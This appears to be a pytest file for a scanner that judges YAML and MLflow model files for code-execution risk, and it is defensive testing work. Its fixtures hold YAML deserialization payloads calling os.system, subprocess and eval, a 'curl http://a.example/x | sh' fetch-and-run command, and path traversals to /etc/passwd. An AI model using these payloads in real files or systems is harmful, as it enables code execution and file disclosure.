# SPDX-License-Identifier: Apache-2.0
"""YAML is unsafe when a loader of it calls what does harm, unknown when it calls what isn't there, and safe else."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastide.verify.artifacts.model import Verdict
from bastide.verify.artifacts.scan import scan_bytes
from tests.verify.artifacts.formats.models import judged

UNSAFE = [
    "!!python/object/apply:os.system ['touch x']",
    "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['touch x']",
    "a: !<tag:yaml.org,2002:python/object/new:os%2Esystem> ['touch x']",
    "a: !!python/object:subprocess.Popen {}",
    "a: !!python/name:os.system",
    "a: !!python/object/apply:eval ['1']",
    "a: !!python/object/apply:mine.make []",
    "a: !!python/object/apply:random._os.system ['touch x']",
    "ok: 1\n---\n- !!python/object/apply:os.system ['touch x']\n",
    "a: !!python/object/apply:os.system ['touch x']\nb: [",
    "a: !!js/function 'function () {}'",
    "a: !!javax.script.ScriptEngineManager [x]",
    "a: !ruby/object:Gem::Installer {i: x}",
    "a: !!ruby/object:Gem::Installer {i: x}",
    "a: !php/object 'O:1:\"A\":0:{}'",
    "a: !new:os.system ['touch x']",
    "a: !apply:subprocess.run [[touch, x]]",
    "a: !include:../../secret.yaml",
    "_target_: os.system\ncommand: touch x",
    "a: {b: [{'_target_': builtins.eval}]}",
    "? &k _target_\n: &v subprocess.run\n",
    "a: &t os.system\nb: {_target_: *t}",
    '"_tar\\x67et_": os.system',
    "_target_: torch.os.system",
    "_target_: torch.hub.load",
    "_target_: hydra.utils.get_method\npath: os.system",
    "_target_: functools.partial\n_args_: [{path: subprocess.run, _target_: hydra.utils.get_object}]",
    "target: os.system\nparams: {command: touch x}",
    "class_path: os.system",
]
UNKNOWN = [
    "_target_: mine.models.Net",
    "_target_: mine.make",
    "_target_: hydra.utils.get_class\npath: mine.Net",
    "_target_: ${where}.Net",
    "target: ldm.models.diffusion.ddpm.LatentDiffusion\nparams: {}",
    "a: !!python/object:mine.Config {a: 1}",
    "a: !!python/object/apply:mine.Config [1]",
    "a: !!python/module:mine",
    "a: !!python/name:mine.make",
    "a: !new:mine.Net",
    "a: !!com.example.Thing {}",
    "trust_remote_code: true",
    "a: !x [\n",
    "!a " + "[" * 300 + "]" * 300,
]
SAFE = [
    "a: 1\nb: [x, y]\n",
    "a: !!python/tuple [1, 2]\nb: !!set {x}\nc: !!binary aGk=\nd: !!timestamp 2020-01-01\n",
    "- !!python/object/apply:collections.OrderedDict\n- - - batch_size\n    - 256\n",
    "a: !!python/name:torch.nn.modules.activation.ReLU ''\n",
    "a: !ENV ${HOME}\nb: !reference [x, y]\nc: !!js/regexp /x/\n",
    "model: !new:speechbrain.nnet.CNN.Conv1d\n  size: 1\nref: !ref <model>\nopt: !name:torch.optim.Adam\n",
    "_target_: torch.optim.Adam\nlr: 0.1\n",
    "_target_: hydra.utils.get_class\npath: torch.nn.ReLU\n",
    "_target_: nemo.collections.asr.models.EncDecCTCModel\n",
    "_target_: os.path.join\n_args_: [a, b]\n",
    "services: {web: {build: {target: web.prod}}}\n",
    "trust_remote_code: false\ntarget: 3\n",
    "trust_remote_code: 'true in quotes is a text'\n",
    "a: &a [*a, {target: *a}]\n",
]


@pytest.mark.parametrize("text", UNSAFE)
def test_what_a_loader_calls_is_unsafe(text: str) -> None:
    """Of Python, of configurations, of other languages."""
    assert (
        scan_bytes(text.encode(), "a.yaml").verdict,
        scan_bytes(text.encode(), "a.yaml").format,
    ) == (Verdict.UNSAFE, "yaml")


@pytest.mark.parametrize("text", UNKNOWN)
def test_what_is_elsewhere_is_unknown(text: str) -> None:
    """Code that isn't in the file, and what can't be read."""
    assert Verdict.UNKNOWN is judged(text.encode(), "conf/a.yml")[0]


@pytest.mark.parametrize("text", SAFE)
def test_honest_files_are_safe(text: str) -> None:
    """With the tags that libraries write."""
    assert (Verdict.SAFE, set()) == judged(text.encode(), "config.yaml")


@pytest.mark.parametrize(
    ("encoding", "mark"),
    [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")],
)
def test_offsets_are_bytes(encoding: str, mark: bytes) -> None:
    """In each encoding that PyYAML reads."""
    text = "é: 1\nx: !!python/name:os.system\n"
    data = mark + text.encode(encoding)
    (found,) = scan_bytes(data, "a.yaml").findings
    assert data.index("!!python".encode(encoding)) == found.offset


MLFLOW = """artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    artifacts:
      words: {path: artifacts/words.txt, uri: /home/me/words.txt}
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 2.14.1
model_uuid: 0a
"""


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python train.py --alpha {alpha}", Verdict.SAFE),
        ("bash go.sh", Verdict.UNKNOWN),
        ("curl http://a.example/x | sh", Verdict.UNSAFE),
    ],
)
def test_commands_of_a_project_are_judged(command: str, expected: Verdict) -> None:
    text = f'name: x\nentry_points:\n  main:\n    parameters:\n      alpha: float\n    command: "{command}"\n'
    assert scan_bytes(text.encode(), "MLproject").verdict is expected


def test_models_that_mlflow_saves_are_safe() -> None:
    """With a note on the pickle."""
    report = scan_bytes(MLFLOW.encode(), "model/MLmodel")
    assert (report.verdict, report.format) == (Verdict.SAFE, "mlflow")
    assert [("mlflow/pickle", MLFLOW.index("model.pkl\n    serial"))] == [(f.id, f.offset) for f in report.findings]


def test_where_a_model_was_logged_is_no_path_that_loading_follows() -> None:
    """MLflow 3 writes an address there."""
    logged = MLFLOW.replace("artifact_path: model", "artifact_path: file:///srv/mlruns/1/models/m-0a/artifacts")
    assert judged(logged.encode(), "MLmodel") == (Verdict.SAFE, set())


@pytest.mark.parametrize(
    ("old", "new", "id", "expected"),
    [
        ("mlflow.sklearn", "my_loader", "mlflow/loader", Verdict.UNKNOWN),
        ("mlflow.sklearn", "subprocess", "mlflow/loader", Verdict.UNSAFE),
        ("code: null", "code: code", "mlflow/code-paths", Verdict.UNKNOWN),
        ("predict_fn: predict", "model_code_path: agent.py", "mlflow/model-code", Verdict.UNKNOWN),
        ("model_path: model.pkl", "python_model: agent.py", "mlflow/model-code", Verdict.UNKNOWN),
        ("model_path: model.pkl", "data: ../../../../etc", "mlflow/path", Verdict.UNSAFE),
        ("artifacts/words.txt", "/etc/passwd", "mlflow/path", Verdict.UNSAFE),
        ("conda.yaml", "../conda.yaml", "mlflow/path", Verdict.UNSAFE),
        ("predict_fn: predict", "x: !!python/object/apply:os.system [x]", "yaml/python-object", Verdict.UNSAFE),
    ],
)
def test_what_mlflow_would_load_is_judged(old: str, new: str, id: str, expected: Verdict) -> None:
    """Modules, code and paths."""
    verdict, found = judged(MLFLOW.replace(old, new, 1).encode(), "MLmodel")
    assert expected is verdict
    assert id in found


def test_flavours_that_are_put_together_are_judged_too() -> None:
    """By anchors and merge keys."""
    text = "base: &b {loader_module: my_loader, data: ../x}\nflavors:\n  python_function:\n    <<: *b\n"
    assert (Verdict.UNSAFE, {"mlflow/loader", "mlflow/path"}) == judged(text.encode(), "MLmodel")


PIECES = st.sampled_from([
    "a: ", "- ", "!!python/name:", "os.system", "[", "{", "]", "}", "\n", "  ", "&a ", "*a", "!", "%TAG ! x", "---", "|", "'", '"', "\\u",
    "_target_: ",
    "? ", "\t", "\x85",
])  # fmt: skip


@given(st.lists(PIECES | st.text(max_size=3), max_size=25), st.sampled_from(["a.yaml", "MLmodel", "environment.yml"]))
@settings(max_examples=400, deadline=None)
def test_no_text_makes_the_reader_fail(parts: list[str], name: str) -> None:
    """Nor do bytes that are none."""
    text = "".join(parts).encode("utf-8", "surrogatepass")
    for data in (text, b"\xff\xfe" + text, text + b"\xff"):
        report = scan_bytes(data or b"\n", name)
        assert [f for f in report.findings if "defect" in f.message] == []


@pytest.mark.parametrize(
    "piece", ["!x [", "!x {a: ", "- !x ", "!x &a [*a, ", "? !x ", '!x "\\', "a: !x |\n ", "*a !x "]
)
def test_long_texts_are_read_in_bounded_time(piece: str) -> None:
    """Depth, aliases, keys."""
    started = time.process_time()
    report = scan_bytes(("a: &a 1\n" + piece * 20_000).encode(), "a.yaml")
    assert report.verdict is not Verdict.UNSAFE
    assert time.process_time() - started < 20
